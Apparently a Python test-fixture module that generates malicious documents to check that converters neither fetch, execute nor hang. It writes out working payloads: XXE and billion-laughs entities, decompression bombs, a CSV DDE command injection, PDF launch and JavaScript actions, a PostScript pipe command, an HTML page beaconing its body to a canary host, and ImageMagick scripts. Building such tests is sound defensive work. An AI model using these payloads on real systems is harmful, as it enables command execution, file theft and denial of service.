"""Documents that fetch, run or never end, and programs for printers."""
# ruff: noqa: E501 - each line of the table is one file.

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterable, Mapping

from tests.badfiles.bad import Bad, Canary, Kind, fixed
from tests.badfiles.deflate import raw, zeros
from tests.badfiles.flat import fodt

KINDS = {
    "office-reference": Kind(65, "An office file whose pictures and templates lie elsewhere."),
    "office-xxe": Kind(65, "An office file with an entity that is a file.", "LibreOffice opens no text with entities."),
    "flat-office": Kind(
        65,
        "An office file in one piece of XML with sections and pictures from outside, and a macro that writes a file and "
        "starts a program when it is opened.",
    ),
    "rich-text": Kind(
        65, "Rich text with fields that fetch.", "LibreOffice shows what such fields held when they were written."
    ),
    "table-formula": Kind(65, "A table whose cells are commands.", "LibreOffice reads a table of text as text."),
    "web-references": Kind(67, "A page that shows and sends files of the server and its neighbours."),
    "web-busy": Kind(66, "A page that never comes to rest."),
    "web-memory": Kind(68, "A page that takes all memory."),
    "web-tall": Kind(
        60,
        "A page taller than any picture.",
        "Chromium takes a picture of its window; only who asks for the whole page must cap it.",
    ),
    "office-bomb": Kind(66, "An office file that inflates to more than a reader can hold."),
    "pdf-dims": Kind(60, "A page as large as a field."),
    "pdf-pages": Kind(
        61, "A tree of pages with more leaves than it has bytes, or with a circle.", "PDFium follows no such trees."
    ),
    "pdf-bomb": Kind(61, "Streams that inflate without end."),
    "pdf-reach": Kind(
        65,
        "Actions that fetch, send or start something.",
        "PDFium does none of this unless it is built for forms and scripts.",
    ),
    "pdf-locked": Kind(71, "A document behind a password.", "PDFium opens nothing without the password."),
    "printer-program": Kind(74, "PostScript that reads files or never ends."),
    "magick-script": Kind(
        74, "Scripts of an image tool under the name of a picture.", "no library that comes along reads these scripts."
    ),
}
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = {  # what kind of document its main part makes it
    "word/document.xml": "wordprocessingml.document",
    "word/settings.xml": "wordprocessingml.settings",
    "xl/workbook.xml": "spreadsheetml.sheet",
    "xl/worksheets/sheet1.xml": "spreadsheetml.worksheet",
    "xl/externalLinks/externalLink1.xml": "spreadsheetml.externalLink",
    "ppt/presentation.xml": "presentationml.presentation",
    "ppt/slides/slide1.xml": "presentationml.slide",
}


def _relations(*links: tuple[str, str], outside: bool = True) -> str:
    mode = ' TargetMode="External"' if outside else ""
    listed = "".join(
        f'<Relationship Id="r{n}" Type="{RELATION}/{kind}" Target="{target}"{mode}/>'
        for n, (kind, target) in enumerate(links)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{listed}</Relationships>'


def _types(parts: Iterable[str]) -> str:
    start = "application/vnd.openxmlformats-officedocument."
    end = {"wordprocessingml.document", "spreadsheetml.sheet", "presentationml.presentation"}
    kinds = ((part, MAIN[part]) for part in parts if part in MAIN)
    listed = "".join(
        f'<Override PartName="/{part}" ContentType="{start}{kind}{".main" if kind in end else ""}+xml"/>'
        for part, kind in kinds
    )
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{listed}</Types>'
    )


def _office(main: str, body: str, more: Mapping[str, str] = {}) -> bytes:
    start = {"_rels/.rels": _relations(("officeDocument", main), outside=False)}
    parts = {"[Content_Types].xml": _types([main, *more]), **start, main: body, **more}
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(zipfile.ZipInfo(name), text, zipfile.ZIP_DEFLATED)
    return made.getvalue()


def _docx(body: str = "<w:p/>", before: str = "", *links: tuple[str, str]) -> bytes:
    text = f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    return _office("word/document.xml", text, {"word/_rels/document.xml.rels": _relations(*links)})


def _shown(number: int) -> str:
    """A picture in a text that lies elsewhere, told in both ways that there are."""
    vml = f'<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt"><v:imagedata xmlns:r="{RELATION}" r:id="r{number}"/></v:shape></w:pict>'
    place = "http://schemas.openxmlformats.org/drawingml/2006"
    drawing = (
        f'<w:drawing><wp:inline xmlns:wp="{place}/wordprocessingDrawing"><wp:extent cx="99999" cy="99999"/><wp:docPr id="{number + 1}" name="a"/>'
        f'<a:graphic xmlns:a="{place}/main"><a:graphicData uri="{place}/picture"><pic:pic xmlns:pic="{place}/picture"><pic:nvPicPr>'
        f'<pic:cNvPr id="0" name="a"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip xmlns:r="{RELATION}" r:link="r{number}"/>'
        '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="99999" cy="99999"/></a:xfrm>'
        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>'
    )
    return f"<w:p><w:r>{vml}</w:r></w:p><w:p><w:r>{drawing}</w:r></w:p>"


def _remote_template(canary: Canary) -> bytes:
    settings = f'<w:settings xmlns:w="{WORD}" xmlns:r="{RELATION}"><w:attachedTemplate r:id="r0"/></w:settings>'
    more = {
        "word/_rels/document.xml.rels": _relations(("settings", "settings.xml"), outside=False),
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": _relations(("attachedTemplate", canary.url("template.dotm"))),
    }
    return _office("word/document.xml", f'<w:document xmlns:w="{WORD}"><w:body><w:p/></w:body></w:document>', more)


def _sheet(canary: Canary) -> bytes:
    """A table with a cell that comes from another one, which lies elsewhere, and one that asks a service."""
    table = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    more = {
        "xl/_rels/workbook.xml.rels": _relations(
            ("worksheet", "worksheets/sheet1.xml"), ("externalLink", "externalLinks/externalLink1.xml"), outside=False
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{table}"><sheetData><row r="1"><c r="A1"><f>[1]Sheet1!A1</f></c><c r="B1"><f>_xlfn.WEBSERVICE("{canary.url("cell")}")</f></c></row></sheetData></worksheet>',
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{table}"><externalBook xmlns:r="{RELATION}" r:id="r0"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": _relations(("externalLinkPath", canary.url("other.xlsx"))),
    }
    main = f'<workbook xmlns="{table}" xmlns:r="{RELATION}"><sheets><sheet name="a" sheetId="1" r:id="r0"/></sheets><externalReferences><externalReference r:id="r1"/></externalReferences></workbook>'
    return _office("xl/workbook.xml", main, more)


def _slide(canary: Canary) -> bytes:
    """A picture that lies elsewhere on the one slide of a presentation."""
    show, drawn = (
        "http://schemas.openxmlformats.org/presentationml/2006/main",
        "http://schemas.openxmlformats.org/drawingml/2006/main",
    )
    spaces = f'xmlns:p="{show}" xmlns:a="{drawn}" xmlns:r="{RELATION}"'
    group = '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
    pictures = "".join(
        f'<p:pic><p:nvPicPr><p:cNvPr id="{n + 2}" name="a"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="r{n}"/></p:blipFill>'
        '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="99999" cy="99999"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr></p:pic>'
        for n in range(2)
    )
    more = {
        "ppt/_rels/presentation.xml.rels": _relations(("slide", "slides/slide1.xml"), outside=False),
        "ppt/slides/slide1.xml": f"<p:sld {spaces}><p:cSld><p:spTree>{group}{pictures}</p:spTree></p:cSld></p:sld>",
        "ppt/slides/_rels/slide1.xml.rels": _relations(
            ("image", canary.url("slide.png")), ("image", canary.file("png"))
        ),
    }
    main = f'<p:presentation {spaces}><p:sldIdLst><p:sldId id="256" r:id="r0"/></p:sldIdLst><p:sldSz cx="99999" cy="99999"/></p:presentation>'
    return _office("ppt/presentation.xml", main, more)


def _page(canary: Canary) -> bytes:
    one, two = canary.file(), canary.url
    return (
        f'<!DOCTYPE html><html><head><link rel=stylesheet href="{two("style.css")}"><base href="{one}"></head><body>'
        f'<img src="{two("image.png")}"><iframe src="{one}"></iframe><object data="{one}"></object>'
        f'<script src="{two("script.js")}"></script><video src="{two("film.mp4")}"></video>'
        f'<script>fetch("{two("fetch")}");navigator.sendBeacon("{two("beacon")}",document.body.innerHTML);'
        f'new WebSocket("{two("socket").replace("http", "ws", 1)}");new EventSource("{two("events")}")</script></body></html>\n'
    ).encode()


def pdf(*objects: str | bytes, trailer: str = "") -> bytes:
    """Objects from 1 on, the first of which is the root; readers find them by looking, for there is no table."""
    made = [b"%PDF-1.7\n"]
    for number, body in enumerate(objects, 1):
        made.append(b"%d 0 obj\n%s\nendobj\n" % (number, body if isinstance(body, bytes) else body.encode()))
    return b"".join(made) + f"trailer\n<</Root 1 0 R{trailer}>>\n%%EOF\n".encode()


def _paper(page: str, *more: str | bytes, root: str = "") -> bytes:
    return pdf(
        f"<</Type/Catalog/Pages 2 0 R{root}>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R{page}>>", *more,
    )  # fmt: skip


def _exponential(depth: int, width: int = 10) -> bytes:
    nodes = [f"<</Type/Pages/Kids[{f'{n + 3} 0 R ' * width}]/Count {width ** (depth - n)}>>" for n in range(depth)]
    return pdf("<</Type/Catalog/Pages 2 0 R>>", *nodes, "<</Type/Page/MediaBox[0 0 9 9]>>")


def _stream(content: bytes, words: str) -> bytes:
    return f"<<{words}/Length {len(content)}>>\nstream\n".encode() + content + b"\nendstream"


def _bomb() -> bytes:
    words = "/Type/XObject/Subtype/Image/Width 30000/Height 30000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode"
    shown = _stream(b"600 0 0 600 0 0 cm /I Do", "")
    return _paper(
        "/MediaBox[0 0 600 600]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>",
        shown,
        _stream(zeros(900_000_000), words),
    )


def _deep_bomb() -> bytes:
    inner = raw(b"q " * 500_000, 200)
    return _paper("/MediaBox[0 0 600 600]/Contents 4 0 R", _stream(b"\x78\xda" + inner, "/Filter/FlateDecode"))


def _actions(canary: Canary) -> bytes:
    script = f"app.launchURL('{canary.url('script')}');this.submitForm('{canary.url('form')}')"
    return _paper(
        f"/MediaBox[0 0 99 99]/AA<</O<</S/Launch/F({canary.path()})>>>>/Annots[<</Subtype/Link/A<</S/URI/URI({canary.url('link')})>>>>]",
        root=f"/OpenAction<</S/JavaScript/JS({script})>>",
    )


def _locked() -> bytes:
    return pdf(
        "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R>>",
        f"<</Filter/Standard/V 2/R 3/Length 128/P -4/O<{'11' * 32}>/U<{'22' * 32}>>>",
        trailer=f"/Encrypt 4 0 R/ID[<{'33' * 16}><{'33' * 16}>]",
    )  # fmt: skip


def _postscript(canary: Canary) -> bytes:
    return (
        f"%!PS\n({canary.path()}) (r) file 99 string readstring pop show showpage\n(%pipe%id) (r) file pop\n".encode()
    )


FILES = (
    Bad("docx-external-image.docx", "office-reference", lambda c: _docx(_shown(0) + _shown(1), "", ("image", c.url("docx.png")), ("image", c.file("png")))),
    Bad("docx-remote-template.docx", "office-reference", _remote_template),
    Bad("xlsx-external.xlsx", "office-reference", _sheet),
    Bad("pptx-external.pptx", "office-reference", _slide),
    Bad("docx-xxe.docx", "office-xxe", lambda c: _docx("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", f'<!DOCTYPE d [<!ENTITY x SYSTEM "{c.file()}">]>')),
    fixed("docx-laughs.docx", "office-xxe", lambda: _docx("<w:p><w:r><w:t>&i;</w:t></w:r></w:p>", "<!DOCTYPE d [" + '<!ENTITY a "lollollol">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + "]>")),
    Bad("fodt-section.fodt", "flat-office", fodt),
    Bad("rtf-fields.rtf", "rich-text", lambda c: rb"{\rtf1{\field{\*\fldinst INCLUDEPICTURE " + f'"{c.url("field.png")}"'.encode() + rb"}}{\object\objautlink{\*\objdata 00}}{\*\template " + c.url("template.dot").encode() + b"}}"),
    Bad("csv-formula.csv", "table-formula", lambda c: f"=cmd|'/c id'!A1,=WEBSERVICE(\"{c.url('cell')}\"),+1+1,@SUM(1)\n='{c.file()}'#$a.A1,-2,=HYPERLINK(\"{c.url('link')}\")\n".encode()),
    Bad("html-references.html", "web-references", _page),
    fixed("html-busy.html", "web-busy", lambda: b"<!DOCTYPE html><html><script>for(;;){}</script></html>"),
    fixed("html-dialogs.html", "web-busy", lambda: b"<!DOCTYPE html><html><script>alert(1);confirm(2);print();onbeforeunload=()=>1</script></html>"),
    fixed("html-memory.html", "web-memory", lambda: b"<!DOCTYPE html><html><script>const a=[];for(;;)a.push(new Uint8Array(1<<26).fill(1))</script></html>"),
    fixed("html-tall.html", "web-tall", lambda: b"<!DOCTYPE html><html><body style='height:9999999px;width:9999999px'></body></html>"),
    fixed("docx-zip-bomb.docx", "office-bomb", lambda: _docx("<w:p/>" * 4_000_000)),
    fixed("pdf-mediabox.pdf", "pdf-dims", lambda: _paper("/MediaBox[0 0 2000000 2000000]")),
    fixed("pdf-userunit.pdf", "pdf-dims", lambda: _paper("/MediaBox[0 0 14400 14400]/UserUnit 100000")),
    fixed("pdf-exp-pages.pdf", "pdf-pages", lambda: _exponential(9)),
    fixed("pdf-kids-loop.pdf", "pdf-pages", lambda: pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2000000000>>")),
    fixed("pdf-deep.pdf", "pdf-pages", lambda: pdf("<</Type/Catalog/Pages 2 0 R/X " + "[" * 200_000 + "]" * 200_000 + ">>", "<</Type/Pages/Kids[]/Count 0>>")),
    fixed("pdf-image-bomb.pdf", "pdf-bomb", _bomb),
    fixed("pdf-content-bomb.pdf", "pdf-bomb", _deep_bomb),
    Bad("pdf-actions.pdf", "pdf-reach", _actions),
    fixed("pdf-encrypted.pdf", "pdf-locked", _locked),
    Bad("ps-file.ps", "printer-program", _postscript),
    Bad("eps-file.eps", "printer-program", lambda c: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n" + _postscript(c)),
    Bad("eps-file.jpg", "printer-program", lambda c: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n" + _postscript(c)),
    fixed("ps-infinite.ps", "printer-program", lambda: b"%!PS\n{} loop\n"),
    Bad("mvg-label.mvg", "magick-script", lambda c: f"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 9,9 '{c.path('png')}'\npop graphic-context\n".encode()),
    Bad("mvg-http.png", "magick-script", lambda c: f"push graphic-context\nviewbox 0 0 9 9\nfill 'url({c.url('mvg')})'\npop graphic-context\n".encode()),
    Bad("msl-read.jpg", "magick-script", lambda c: f'<?xml version="1.0"?><image><read filename="{c.path("png")}"/><write filename="{c.folder}/written.png"/></image>\n'.encode()),
)  # fmt: skip
